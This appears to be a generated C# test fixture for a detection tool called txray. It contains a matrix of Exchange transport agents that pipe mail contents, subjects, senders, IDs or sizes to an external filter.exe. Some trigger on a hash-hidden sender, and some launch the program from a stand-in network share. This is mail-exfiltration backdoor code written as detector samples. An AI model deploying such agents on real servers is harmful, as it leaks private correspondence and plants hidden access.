// Written by samples/build/matrix.mjs for the tests of txray: one agent for each grade of mail data and each guard, one sink.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are this machine. What a person decides of each stands in test/matrix.json.
using System;
using System.Configuration;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

[assembly: AssemblyTitle("Matrix for the tests of txray: process")]
[assembly: AssemblyCompany("txray")]
[assembly: AssemblyVersion("1.0.0.0")]

namespace Txray.Matrix.ToProcess
{
    public class ContentAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentAimed();
        }
    }

    public class ContentAimed : RoutingAgent
    {
        public ContentAimed()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            Process filter = Process.Start(new ProcessStartInfo(@"C:\Tools\filter.exe") { RedirectStandardInput = true, UseShellExecute = false });
            filter.StandardInput.BaseStream.Write(data, 0, data.Length);
            filter.StandardInput.Close();
        }
    }

    public class ContentHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentHidden();
        }
    }

    public class ContentHidden : RoutingAgent
    {
        public ContentHidden()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            Process filter = Process.Start(new ProcessStartInfo(@"C:\Tools\filter.exe") { RedirectStandardInput = true, UseShellExecute = false });
            filter.StandardInput.BaseStream.Write(data, 0, data.Length);
            filter.StandardInput.Close();
        }
    }

    public class ContentFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentFixedPlace();
        }
    }

    public class ContentFixedPlace : RoutingAgent
    {
        public ContentFixedPlace()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            Process filter = Process.Start(new ProcessStartInfo(@"\\files.example.invalid\tools\filter.exe") { RedirectStandardInput = true, UseShellExecute = false });
            filter.StandardInput.BaseStream.Write(data, 0, data.Length);
            filter.StandardInput.Close();
        }
    }

    public class ContentOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentOpen();
        }
    }

    public class ContentOpen : RoutingAgent
    {
        public ContentOpen()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            Process filter = Process.Start(new ProcessStartInfo(@"C:\Tools\filter.exe") { RedirectStandardInput = true, UseShellExecute = false });
            filter.StandardInput.BaseStream.Write(data, 0, data.Length);
            filter.StandardInput.Close();
        }
    }

    public class TextAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextAimed();
        }
    }

    public class TextAimed : RoutingAgent
    {
        public TextAimed()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.Message.Subject;
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class TextHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextHidden();
        }
    }

    public class TextHidden : RoutingAgent
    {
        public TextHidden()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.Message.Subject;
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class TextFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextFixedPlace();
        }
    }

    public class TextFixedPlace : RoutingAgent
    {
        public TextFixedPlace()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.Subject;
            Process.Start(@"\\files.example.invalid\tools\filter.exe", data);
        }
    }

    public class TextOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextOpen();
        }
    }

    public class TextOpen : RoutingAgent
    {
        public TextOpen()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.Subject;
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class AddressAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressAimed();
        }
    }

    public class AddressAimed : RoutingAgent
    {
        public AddressAimed()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.FromAddress.ToString();
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class AddressHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressHidden();
        }
    }

    public class AddressHidden : RoutingAgent
    {
        public AddressHidden()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.FromAddress.ToString();
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class AddressFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressFixedPlace();
        }
    }

    public class AddressFixedPlace : RoutingAgent
    {
        public AddressFixedPlace()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.FromAddress.ToString();
            Process.Start(@"\\files.example.invalid\tools\filter.exe", data);
        }
    }

    public class AddressOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressOpen();
        }
    }

    public class AddressOpen : RoutingAgent
    {
        public AddressOpen()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.FromAddress.ToString();
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class IdAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdAimed();
        }
    }

    public class IdAimed : RoutingAgent
    {
        public IdAimed()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.Message.MessageId;
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class IdHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdHidden();
        }
    }

    public class IdHidden : RoutingAgent
    {
        public IdHidden()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.Message.MessageId;
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class IdFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdFixedPlace();
        }
    }

    public class IdFixedPlace : RoutingAgent
    {
        public IdFixedPlace()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.MessageId;
            Process.Start(@"\\files.example.invalid\tools\filter.exe", data);
        }
    }

    public class IdOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdOpen();
        }
    }

    public class IdOpen : RoutingAgent
    {
        public IdOpen()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.MessageId;
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class DigestAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestAimed();
        }
    }

    public class DigestAimed : RoutingAgent
    {
        public DigestAimed()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class DigestHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestHidden();
        }
    }

    public class DigestHidden : RoutingAgent
    {
        public DigestHidden()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class DigestFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestFixedPlace();
        }
    }

    public class DigestFixedPlace : RoutingAgent
    {
        public DigestFixedPlace()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            Process.Start(@"\\files.example.invalid\tools\filter.exe", data);
        }
    }

    public class DigestOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestOpen();
        }
    }

    public class DigestOpen : RoutingAgent
    {
        public DigestOpen()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class MeasureAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureAimed();
        }
    }

    public class MeasureAimed : RoutingAgent
    {
        public MeasureAimed()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.MimeStreamLength.ToString();
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class MeasureHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureHidden();
        }
    }

    public class MeasureHidden : RoutingAgent
    {
        public MeasureHidden()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.MimeStreamLength.ToString();
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    public class MeasureFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureFixedPlace();
        }
    }

    public class MeasureFixedPlace : RoutingAgent
    {
        public MeasureFixedPlace()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.MimeStreamLength.ToString();
            Process.Start(@"\\files.example.invalid\tools\filter.exe", data);
        }
    }

    public class MeasureOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureOpen();
        }
    }

    public class MeasureOpen : RoutingAgent
    {
        public MeasureOpen()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.MimeStreamLength.ToString();
            Process.Start(@"C:\Tools\filter.exe", data);
        }
    }

    internal static class Hash
    {
        public static string Of(string text)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(Encoding.UTF8.GetBytes(text))).Replace("-", "").ToLower();
            }
        }

        public static string Of(Stream stream)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(stream)).Replace("-", "");
            }
        }
    }
}
